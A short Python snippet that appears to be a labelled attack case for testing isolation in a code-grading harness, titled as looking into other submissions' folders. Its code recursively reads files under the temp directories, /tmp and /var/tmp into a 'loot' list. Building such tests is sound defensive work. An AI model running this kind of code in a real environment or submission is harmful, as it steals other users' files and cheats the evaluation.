# attack: looks into other submissions' folders
# exercises: vertical_edge_kernel
# outcome: steals
import glob, os, tempfile
for folder in (os.path.dirname(tempfile.gettempdir()), "/tmp", "/var/tmp"):
    for path in glob.glob(folder + "/**/*", recursive=True):
        try:
            loot.append(open(path).read(1000))
        except OSError:
            pass
